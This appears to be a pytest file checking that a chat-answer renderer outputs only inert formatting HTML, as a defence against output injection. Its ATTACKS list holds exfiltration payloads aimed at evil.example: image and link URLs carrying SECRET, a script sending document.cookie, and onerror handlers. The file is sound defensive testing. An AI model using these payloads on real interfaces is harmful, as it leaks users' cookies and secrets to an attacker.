"""Text we do not control cannot make the browser load or open anything (OWASP LLM05).

Issue 14, item 1: the old hand-written escaper missed CommonMark rules (a backtick in a fence's
info string, ``\\r`` as a line end) and headless Chromium fetched the images below. Answers now
go through a real CommonMark parser with our inert renderer; labels are made literal.
"""

from __future__ import annotations

import html
import random
import string
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from ui.render import answer_html, literal, passage_html

# The two payloads the security probe saw fetched, then the classic ones.
PROBE_PAYLOADS = [
    "```x`\n![b](http://host/b.png?leak=B)",
    "```\ncode\n```\r![c](http://host/c.png?leak=C)",
]
ATTACKS = [
    *PROBE_PAYLOADS,
    "See ![logo](https://evil.example/x.png?q=SECRET) now",
    "click [here](https://evil.example/steal?d=SECRET)",
    "ref [here][1]\n\n[1]: https://evil.example/ref",
    "ref image ![x][img]\n\n[img]: https://evil.example/i.png",
    "<img src=https://evil.example/a.png onerror=alert(1)>",
    "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "autolink <https://evil.example/auto> and <mail@evil.example>",
    "bare https://evil.example/path and www.evil.example and someone@evil.example",
    "escaped \\![x](https://evil.example/e.png) trick",
    "html <a href='https://evil.example'>x</a> entity &lt;img src=x&gt;",
    "nested [![img](https://evil.example/n.png)](https://evil.example/l)",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "\r\n![crlf](http://host/crlf.png)\r\n",
    "~~~\n~~~\n![after-tilde](http://host/t.png)",
    "| a | b |\n|---|---|\n| ![t](http://host/table.png) | <img src=x> |",
]
# What our renderer may emit: formatting tags, and only class/title attributes.
_TAGS = {
    "div",
    "p",
    "span",
    "strong",
    "em",
    "code",
    "pre",
    "ul",
    "ol",
    "li",
    "blockquote",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "br",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "s",
    "mark",
}
_ATTRS = {"class", "title", "style", "start"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _TAGS:
            self.bad.append(tag)
        self.bad += [f"{tag}[{name}]" for name, _ in attrs if name not in _ATTRS]

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)


def assert_inert(markup: str) -> None:
    """Every tag is a formatting tag and no attribute can load or run anything."""
    tags = _Tags()
    tags.feed(markup)
    tags.close()
    assert not tags.bad, (tags.bad, markup)


@pytest.mark.parametrize("attack", ATTACKS)
def test_answers_render_without_anything_that_fetches(attack: str) -> None:
    assert_inert(answer_html(attack))


def test_the_probe_payloads_are_images_to_a_real_commonmark_parser() -> None:
    """The payloads are not harmless by accident: CommonMark makes them images, which the
    inert renderer turns into text."""
    parser = MarkdownIt("commonmark")
    for payload in PROBE_PAYLOADS:
        assert "<img" in parser.render(payload)
        rendered = answer_html(payload)
        assert "image not shown" in rendered


def test_visible_text_is_kept() -> None:
    text = (
        "Travel by **train** [1]; budget < 200 EUR, see https://intranet/x.\n\n- item one\n\n"
        "```bash\ncurl https://x/y [a](b)\n```\n\nthen [c](https://d/e)"
    )
    out = answer_html(text, cites=[1])
    assert "<strong>train</strong>" in out
    assert '<span class="enclave-cite" title="Source 1">1</span>' in out
    assert "&lt; 200 EUR" in out
    assert "https://intranet/x." in out  # shown as text
    assert "<li>item one</li>" in out
    assert "curl https://x/y [a](b)\n" in out  # code stays verbatim
    assert '<span class="enclave-link">c</span>' in out and "(https://d/e)" in out
    assert_inert(out)


def test_only_known_citation_numbers_become_chips_and_unsupported_is_marked() -> None:
    out = answer_html(
        "Hotels cost 180 EUR [1]. Trains are first class [2]. See [7].",
        cites=[1, 2],
        unsupported=["Trains are first class"],
    )
    assert out.count('class="enclave-cite"') == 2 and "[7]" in out
    assert '<span class="enclave-unsupported"' in out
    assert "Trains are first class</span>" in out


def test_every_prefix_of_a_stream_is_inert() -> None:
    text = "\n".join(ATTACKS)
    for end in range(1, len(text) + 1, 3):
        assert_inert(answer_html(text[:end]))


_ALPHABET = string.ascii_letters + string.digits + string.punctuation + " \t\n\r" + "äé€→𝔸"


@pytest.mark.parametrize("seed", range(40))
def test_literal_text_renders_exactly_as_itself(seed: int) -> None:
    """CommonMark renders :func:`literal` text as the text itself: no construct can form."""
    rng = random.Random(seed)
    pool = [*ATTACKS, ":material/lock: :red[x] $x$ # h1 > quote 1. item * [x](y)"]
    raw = rng.choice(pool) + "".join(rng.choice(_ALPHABET) for _ in range(rng.randint(0, 80)))
    escaped = literal(raw)
    flat = " ".join(raw.split())
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    if flat:
        expected = html.escape(flat, quote=False).replace('"', "&quot;")
        assert parser.render(escaped) == f"<p>{expected}</p>\n"
    # Nothing a GFM autolinker or Streamlit's directives could pick up.
    assert "://" not in escaped and "www." not in escaped.lower()
    assert all(escaped[i - 1] == "\\" for i, ch in enumerate(escaped) if ch in "@:[]")


def test_passages_mark_the_supporting_sentences() -> None:
    text = "Intro <b>. The hotel budget is 180 EUR. Other text."
    start = text.index("The hotel")
    end = text.index("EUR.") + 4
    out = passage_html(text, [(start, end), (end + 1, end + 100), (0, 0)])
    assert "<mark>The hotel budget is 180 EUR.</mark>" in out
    assert "&lt;b&gt;" in out and "<b>" not in out
    assert out.count("<mark>") == 2
